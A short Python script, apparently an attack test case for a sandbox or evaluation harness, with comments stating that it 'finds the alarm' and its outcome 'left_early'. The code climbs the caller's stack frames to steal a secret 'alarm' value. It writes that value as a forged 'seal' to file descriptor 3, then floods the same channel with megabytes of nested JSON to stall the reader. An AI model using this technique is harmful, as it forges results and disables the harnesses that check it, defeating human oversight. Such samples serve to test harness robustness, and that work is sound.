# attack: finds the alarm and writes one record that is as long as may be and slow to read
# end: left_early

import json
import os
import sys

frame = sys._getframe()
alarm = ""
while frame:
    if "message" in frame.f_locals and type(frame.f_locals["message"]) is dict:
        alarm = frame.f_locals["message"].get("alarm", "")
    frame = frame.f_back
os.write(3, b'{"seal":"%b","report":{"a":[' % alarm.encode())
for _ in range(62):
    os.write(3, b"[],{}," * 11000)
os.write(3, b"0]}}\n")
